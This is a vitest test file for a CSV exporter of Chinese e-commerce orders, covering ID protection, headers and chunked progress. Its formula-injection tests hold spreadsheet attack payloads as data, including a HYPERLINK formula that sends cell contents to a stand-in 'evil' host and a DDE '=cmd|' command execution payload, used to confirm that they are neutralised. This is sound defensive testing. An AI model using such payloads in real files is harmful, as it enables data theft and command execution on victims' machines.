import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { OrderRecord, ReminderRecord } from '@/utils/db/database';
import { buildOrdersCsv, CSV_MIME, type BuildOrdersCsvOptions } from '@/utils/export/build-orders-csv';
import { FORMULA_TRIGGER, readIdCell } from '@/utils/export/csv-cell';
import { ORDER_COLUMNS, REQUIRED_COLUMN_IDS, summarizeReminders } from '@/utils/export/order-columns';
import { StoredOrderSchema, orderKey, type CapturedOrderInput } from '@/utils/model/order';

const T0 = Date.UTC(2026, 4, 12, 16, 22, 32); // 2026-05-13 00:22:32 in Beijing
const MINUTE = 60_000;
const ID19 = '4987654321098765432';

function storedOrder(overrides: Partial<Omit<CapturedOrderInput, 'sourcePage'>> = {}): OrderRecord {
  const platform = overrides.platform ?? 'douyin';
  const orderId = overrides.orderId ?? ID19;
  const stored = StoredOrderSchema.parse({
    platform,
    orderId,
    shop: '测试旗舰店',
    status: 'paid',
    statusText: '买家已付款',
    createdAt: T0,
    paidAt: T0 + MINUTE,
    amountCents: 12990,
    paymentMethod: '支付宝',
    buyer: '测*',
    receiverRegion: '浙江省 杭州市',
    items: [{ title: '纯棉T恤', spec: '白色 XL', quantity: 1, unitPriceCents: 12990 }],
    ...overrides,
    key: orderKey(platform, orderId),
    firstSeenAt: T0 + 2 * MINUTE,
    updatedAt: T0 + 3 * MINUTE,
    rev: 1,
  });
  return { ...stored, waybillNos: stored.shipments.map((shipment) => shipment.waybillNo) };
}

const NAMES: Record<string, { zh: string; en: string }> = {
  douyin: { zh: '抖店', en: 'Douyin' },
  jd: { zh: '京东', en: 'JD' },
  pinduoduo: { zh: '拼多多', en: 'Pinduoduo' },
};
const platformName = (platform: string, lang: 'zh' | 'en') => NAMES[platform]?.[lang] ?? platform;

async function build(orders: OrderRecord[], options: Partial<BuildOrdersCsvOptions> = {}): Promise<string> {
  const parts = await buildOrdersCsv({ source: [orders], platformName, ...options });
  return parts.join('');
}

/** Parse back as a user's tool would, never with dynamicTyping. */
function parse(csv: string): string[][] {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const result = Papa.parse<string[]>(csv.slice(1), { dynamicTyping: false, skipEmptyLines: false });
  expect(result.errors).toEqual([]);
  const rows = result.data;
  expect(rows.at(-1)).toEqual(['']); // every record, the last too, ends with CRLF
  return rows.slice(0, -1);
}

function byHeader(csv: string): Record<string, string>[] {
  const [header = [], ...rows] = parse(csv);
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ''])));
}

const ZH_HEADER = [
  '平台', '店铺', '订单编号', '下单时间', '付款时间', '订单状态', '原始状态', '实付金额', '支付方式', '买家', '收货地区',
  '商品', '商品数量', '快递公司', '运单号', '物流状态', '发货时间', '签收时间', '催付次数', '最后催付时间', '首次发现', '最后更新', '买家ID',
];

describe('buildOrdersCsv: format', () => {
  it('starts with a BOM, then the exact Chinese header row', async () => {
    const csv = await build([]);
    expect(csv).toBe(`\uFEFF${ZH_HEADER.join(',')}\r\n`);
    expect(ORDER_COLUMNS.map((column) => column.zh)).toEqual(ZH_HEADER);
  });

  it('encodes to UTF-8 with EF BB BF and readable Chinese', async () => {
    const parts = await buildOrdersCsv({ source: [[storedOrder()]], platformName });
    const bytes = new Uint8Array(await new Blob(parts, { type: CSV_MIME }).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text).toContain('测试旗舰店');
    expect(byHeader(text)[0]).toMatchObject({ 平台: '抖店', 店铺: '测试旗舰店', 买家: '测*', 收货地区: '浙江省 杭州市' });
  });

  it('separates with commas and ends every record with CRLF, never a bare LF', async () => {
    const csv = await build([storedOrder(), storedOrder({ orderId: '4987654321098765433' })]);
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines.at(-1)).toBe('');
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    for (const line of lines.slice(0, -1)) expect(Papa.parse<string[]>(line).data[0]).toHaveLength(23);
  });

  it('prints one full order as specified', async () => {
    const order = storedOrder({
      status: 'shipped',
      statusText: '已发货，待签收',
      amountCents: 129900,
      items: [
        { title: '纯棉T恤', spec: '白色 XL', quantity: 2 },
        { title: '袜子', quantity: 3 },
      ],
      shipments: [
        {
          waybillNo: 'SF1234567890123',
          carrierName: '顺丰速运',
          events: [
            { at: T0 + 60 * MINUTE, text: '已揽收' },
            { at: T0 + 90 * MINUTE, text: '运输中，到达杭州转运中心' },
          ],
        },
      ],
      shippedAt: T0 + 50 * MINUTE,
    });
    const reminders = summarizeReminders([
      { orderKey: order.key, at: T0 + 5 * MINUTE, channel: 'copy', template: 't1' },
      { orderKey: order.key, at: T0 + 9 * MINUTE, channel: 'copy', template: 't1' },
      { orderKey: 'jd:1', at: T0 + 30 * MINUTE, channel: 'copy', template: 't1' },
    ]);
    const [row] = byHeader(await build([order], { reminders }));
    expect(row).toEqual({
      平台: '抖店',
      店铺: '测试旗舰店',
      订单编号: `${ID19}\t`,
      下单时间: '2026-05-13 00:22:32',
      付款时间: '2026-05-13 00:23:32',
      订单状态: '已发货',
      原始状态: '已发货，待签收',
      实付金额: '1299.00',
      支付方式: '支付宝',
      买家: '测*',
      收货地区: '浙江省 杭州市',
      商品: '纯棉T恤（白色 XL）；袜子',
      商品数量: '5',
      快递公司: '顺丰速运',
      运单号: 'SF1234567890123\t',
      物流状态: '运输中，到达杭州转运中心',
      发货时间: '2026-05-13 01:12:32',
      签收时间: '',
      催付次数: '2',
      最后催付时间: '2026-05-13 00:31:32',
      首次发现: '2026-05-13 00:24:32',
      最后更新: '2026-05-13 00:25:32',
      买家ID: '',
    });
  });

  it('parses back to the orders it was built from (papaparse, no dynamicTyping)', async () => {
    const orders = Array.from({ length: 250 }, (_, i) =>
      storedOrder({
        platform: i % 3 === 0 ? 'jd' : 'douyin',
        orderId: (9_000_000_000_000_000_000n + BigInt(i) * 7_919n).toString(),
        amountCents: i * 137 - 5000,
        createdAt: T0 + i * 1000,
        buyer: i % 7 === 0 ? `=HYPERLINK("http://evil/${i}")` : `买家${i}`,
        status: i % 2 === 0 ? 'paid' : 'unpaid',
      }),
    );
    const rows = byHeader(await build(orders));
    expect(rows).toHaveLength(orders.length);
    rows.forEach((row, i) => {
      const order = orders[i]!;
      expect(readIdCell(row['订单编号']!)).toBe(order.orderId);
      expect(row['平台']).toBe(order.platform === 'jd' ? '京东' : '抖店');
      expect(Math.round(Number(row['实付金额']) * 100)).toBe(order.amountCents);
      expect(row['实付金额']).toMatch(/^-?\d+\.\d{2}$/);
      expect(row['买家']).toBe(i % 7 === 0 ? `'${order.buyer}` : order.buyer);
      expect(row['订单状态']).toBe(order.status === 'paid' ? '待发货' : '待付款');
      expect(Date.parse(`${row['下单时间']!.replace(' ', 'T')}+08:00`)).toBe(order.createdAt);
    });
  });
});

describe('buildOrdersCsv: order numbers', () => {
  it('keeps a 19-digit id whole and text-protected in a quoted cell', async () => {
    const csv = await build([storedOrder()]);
    expect(csv).toContain(`,"${ID19}\t",`);
    const [row] = byHeader(csv);
    expect(row!['订单编号']).toBe(`${ID19}\t`);
    expect(readIdCell(row!['订单编号']!)).toBe(ID19);
    expect(Number(ID19).toString()).not.toBe(ID19); // why it must never be a number
  });

  it('keeps a Pinduoduo id with its dash', async () => {
    const [row] = byHeader(await build([storedOrder({ platform: 'pinduoduo', orderId: '220216-179332719430230' })]));
    expect(readIdCell(row!['订单编号']!)).toBe('220216-179332719430230');
  });

  it('joins several waybills and their carriers with ；, in the same order', async () => {
    const order = storedOrder({
      status: 'shipped',
      shipments: [
        { waybillNo: 'SF1234567890123', carrierName: '顺丰速运' },
        { waybillNo: '78123456789012', carrierName: '中通快递' },
      ],
    });
    const csv = await build([order]);
    expect(csv).toContain('"SF1234567890123；78123456789012\t"');
    const [row] = byHeader(csv);
    expect(readIdCell(row!['运单号']!)).toBe('SF1234567890123；78123456789012');
    expect(row!['快递公司']).toBe('顺丰速运；中通快递');
  });

  it('protects a lone numeric waybill like an order id', async () => {
    const [row] = byHeader(await build([storedOrder({ shipments: [{ waybillNo: '78123456789012', carrierCode: 'zto' }] })]));
    expect(row!['运单号']).toBe('78123456789012\t');
    expect(row!['快递公司']).toBe('zto');
  });
});

describe('buildOrdersCsv: formula injection', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    '+1+2',
    '-1+2',
    '@SUM(1,2)',
    '\t=1+2',
    '\r=1+2',
    '\n=1+2',
    '\0=1+2',
    '=1+2\n第二行',
    '=cmd|" /C calc"!A0',
  ];

  it.each(attacks)('neutralises buyer %j with a leading quote', async (buyer) => {
    // Set after the schema (which trims): a restored backup or an older record need not be trimmed.
    const order = { ...storedOrder(), buyer };
    const [row] = byHeader(await build([order]));
    expect(row!['买家']).toBe(`'${buyer}`);
  });

  it('keeps a value with `";=1+2` inside one correctly quoted cell', async () => {
    const buyer = 'x";=1+2';
    const csv = await build([storedOrder({ buyer })]);
    expect(csv).toContain(',"x"";=1+2",');
    const [row] = byHeader(csv);
    expect(row!['买家']).toBe(buyer);
    expect(Object.keys(row!)).toHaveLength(23);
  });

  it('neutralises every text column, including the platform name the caller supplies', async () => {
    const evil = '=1+2';
    const order = storedOrder({
      shop: evil,
      statusText: evil,
      paymentMethod: evil,
      buyer: evil,
      receiverRegion: evil,
      items: [{ title: evil, spec: 'x', quantity: 1 }],
      shipments: [{ waybillNo: 'YT1234567890', carrierName: evil, events: [{ at: T0, text: evil }] }],
    });
    const csv = await build([order], { platformName: () => '@evil' });
    const [header = [], row = []] = parse(csv);
    const kinds = new Map<string, string>(ORDER_COLUMNS.map((column) => [column.zh, column.kind]));
    for (const [i, cell] of row.entries()) {
      expect(FORMULA_TRIGGER.test(cell), `${header[i]} = ${JSON.stringify(cell)}`).toBe(false);
      if (kinds.get(header[i]!) === 'text' && cell !== '' && header[i] !== '订单状态') expect(cell.charAt(0)).toBe("'");
    }
  });

  it('leaves a negative amount a plain unquoted number', async () => {
    const csv = await build([storedOrder({ amountCents: -500, status: 'refunded' })]);
    expect(csv).toContain(',-5.00,');
    expect(csv).not.toContain("'-5.00");
    expect(byHeader(csv)[0]!['实付金额']).toBe('-5.00');
  });
});

describe('buildOrdersCsv: languages and columns', () => {
  it('uses English headers and English status labels on request', async () => {
    const csv = await build([storedOrder({ status: 'shipped', shipments: [{ waybillNo: 'SF1234567890123' }] })], {
      lang: 'en',
    });
    const [header, row] = parse(csv);
    expect(header).toEqual([
      'Platform', 'Shop', 'Order No.', 'Order time', 'Paid at', 'Status', 'Original status', 'Amount paid (CNY)',
      'Payment method', 'Buyer', 'Region', 'Items', 'Quantity', 'Carrier', 'Waybill No.', 'Logistics status',
      'Shipped at', 'Delivered at', 'Reminders', 'Last reminded at', 'First seen', 'Last updated', 'Buyer ID',
    ]);
    expect(row![0]).toBe('Douyin');
    expect(row![5]).toBe('Shipped');
    expect(row![15]).toBe('Shipped'); // no trace: the status word
  });

  it('keeps the required columns whatever is selected, in registry order', async () => {
    expect(REQUIRED_COLUMN_IDS).toEqual(['orderId', 'amount', 'paymentMethod', 'buyer']);
    const [header] = parse(await build([storedOrder()], { columns: ['buyer', 'shop', 'no-such-column'] }));
    expect(header).toEqual(['店铺', '订单编号', '实付金额', '支付方式', '买家']);
    const [onlyRequired] = parse(await build([], { columns: [] }));
    expect(onlyRequired).toEqual(['订单编号', '实付金额', '支付方式', '买家']);
  });

  it('quotes the id cells of a selection by their position', async () => {
    const csv = await build([storedOrder({ shipments: [{ waybillNo: '78123456789012' }] })], {
      columns: ['waybill'],
    });
    expect(csv.split('\r\n')[1]).toBe(`"${ID19}\t",129.90,支付宝,测*,"78123456789012\t"`);
  });
});

describe('buildOrdersCsv: derived columns', () => {
  it('logistics: the newest event of the newest shipment, else a status word', async () => {
    const traced = storedOrder({
      orderId: '1000000000000000001',
      status: 'shipped',
      shipments: [
        { waybillNo: 'SF1000000000001', events: [{ at: T0 + 9 * MINUTE, text: '第二单：已签收' }] },
        {
          waybillNo: 'SF1000000000002',
          events: [
            { at: T0 + 20 * MINUTE, text: '第一单：派送中' },
            { at: T0 + 10 * MINUTE, text: '第一单：已揽收' },
          ],
        },
      ],
    });
    const rows = byHeader(
      await build([
        traced,
        storedOrder({ orderId: '1000000000000000002', status: 'delivered', deliveredAt: T0 + 99 * MINUTE }),
        storedOrder({ orderId: '1000000000000000003', status: 'paid' }),
        storedOrder({ orderId: '1000000000000000004', status: 'unpaid' }),
        storedOrder({ orderId: '1000000000000000005', status: 'completed' }),
      ]),
    );
    expect(rows.map((row) => row['物流状态'])).toEqual(['第一单：派送中', '已签收', '未发货', '', '']);
    expect(rows[1]!['签收时间']).toBe('2026-05-13 02:01:32');
  });

  it('quantity stays empty when an item has no known quantity; no reminders count 0', async () => {
    const [row] = byHeader(await build([storedOrder({ items: [{ title: 'A', quantity: 2 }, { title: 'B' }] })]));
    expect(row!['商品']).toBe('A；B');
    expect(row!['商品数量']).toBe('');
    expect(row!['催付次数']).toBe('0');
    expect(row!['最后催付时间']).toBe('');
  });

  it('leaves unknown fields empty', async () => {
    const bare = storedOrder({ orderId: '1234567890' });
    for (const field of ['shop', 'status', 'statusText', 'createdAt', 'paidAt', 'amountCents', 'paymentMethod', 'buyer', 'receiverRegion'] as const) {
      delete bare[field];
    }
    bare.items = [];
    const [row] = byHeader(await build([bare]));
    expect(Object.entries(row!).filter(([, cell]) => cell !== '')).toEqual([
      ['平台', '抖店'],
      ['订单编号', '1234567890\t'],
      ['催付次数', '0'],
      ['首次发现', '2026-05-13 00:24:32'],
      ['最后更新', '2026-05-13 00:25:32'],
    ]);
  });

  it('summarizeReminders counts per order and keeps the latest time', () => {
    const log: ReminderRecord[] = [
      { orderKey: 'a', at: 3, channel: 'copy', template: 'x' },
      { orderKey: 'a', at: 1, channel: 'copy', template: 'x' },
      { orderKey: 'b', at: 2, channel: 'copy', template: 'x' },
    ];
    expect(Object.fromEntries(summarizeReminders(log))).toEqual({ a: { count: 2, lastAt: 3 }, b: { count: 1, lastAt: 2 } });
  });
});

describe('buildOrdersCsv: chunks, progress, yielding', () => {
  async function* chunksOf(orders: OrderRecord[], size: number) {
    for (let i = 0; i < orders.length; i += size) yield orders.slice(i, i + size);
  }
  const many = (n: number) =>
    Array.from({ length: n }, (_, i) => storedOrder({ orderId: (4_000_000_000_000_000_000n + BigInt(i)).toString() }));

  it('reads an async source chunk by chunk, reports progress and yields to the event loop', async () => {
    const orders = many(2500);
    const progress: [number, number][] = [];
    let timerFired = false;
    setTimeout(() => (timerFired = true));
    const parts = await buildOrdersCsv({
      source: chunksOf(orders, 1200),
      total: orders.length,
      platformName,
      yieldEveryMs: 0,
      onProgress: (done, total) => {
        progress.push([done, total]);
        if (done === 1000) expect(timerFired).toBe(false);
      },
    });
    expect(timerFired).toBe(true);
    // parts of 1000 rows, whatever the source's chunk size
    expect(progress).toEqual([
      [1000, 2500],
      [2000, 2500],
      [2500, 2500],
    ]);
    expect(parts).toHaveLength(1 + progress.length);
    const rows = byHeader(parts.join(''));
    expect(rows.map((row) => readIdCell(row['订单编号']!))).toEqual(orders.map((order) => order.orderId));
  });

  it('stops when aborted', async () => {
    const controller = new AbortController();
    const pending = buildOrdersCsv({
      source: chunksOf(many(3000), 1000),
      platformName,
      yieldEveryMs: 0,
      signal: controller.signal,
      onProgress: (done) => done === 1000 && controller.abort(),
    });
    await expect(pending).rejects.toThrow();
  });
});

describe('buildOrdersCsv: 买家ID (23rd column)', () => {
  it('exports the buyer platform id last, as text with every digit, and formula-safe', async () => {
    const rows = byHeader(
      await build([
        storedOrder({ orderId: '4987654321098765431', buyerId: '3598712345678901234' }),
        storedOrder({ orderId: '4987654321098765430', buyerId: '=cmd|x' }),
        storedOrder({ orderId: '4987654321098765429' }),
      ]),
    );
    expect(Object.keys(rows[0]!).at(-1)).toBe('买家ID');
    expect(readIdCell(rows[0]!['买家ID']!)).toBe('3598712345678901234');
    expect(rows[1]!['买家ID']!.startsWith('=')).toBe(false);
    expect(rows[2]!['买家ID']).toBe('');
  });
});
